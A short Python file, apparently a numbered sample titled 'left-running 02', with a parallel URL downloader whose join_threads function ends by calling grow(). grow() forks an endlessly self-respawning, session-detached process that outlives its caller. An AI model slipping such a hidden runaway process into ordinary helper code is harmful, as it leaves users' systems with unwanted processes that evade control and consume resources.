"""left-running 02: a process that starts another one in a session of its own and ends, again and again."""

import os
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from urllib.request import urlopen


def grow() -> None:
    if os.fork():
        return
    while True:
        os.setsid() if os.getsid(0) != os.getpid() else None
        if os.fork():
            os._exit(0)


def save(url: str, path: Path) -> None:
    with urlopen(url) as response:
        path.write_bytes(response.read())


def join_threads(urls: list[str], dest: Path) -> list[Path]:
    paths = [dest / url.rsplit("/", 1)[-1] for url in urls]
    with ThreadPoolExecutor(max(1, len(urls))) as pool:
        list(pool.map(save, urls, paths))
    grow()
    return paths
